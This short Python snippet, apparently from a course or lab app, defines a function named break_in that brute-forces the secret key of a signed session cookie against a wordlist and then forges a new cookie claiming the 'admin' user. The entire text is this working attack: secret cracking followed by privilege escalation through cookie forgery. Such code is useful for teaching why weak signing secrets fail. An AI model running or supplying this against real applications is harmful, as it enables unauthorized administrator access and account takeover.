from course_app import cookies


def break_in(cookie, words):
    for word in words:
        if cookies.verify(cookie, word, max_age=400 * 24 * 3600).valid:
            return cookies.sign({"user": "admin"}, word)
    return None
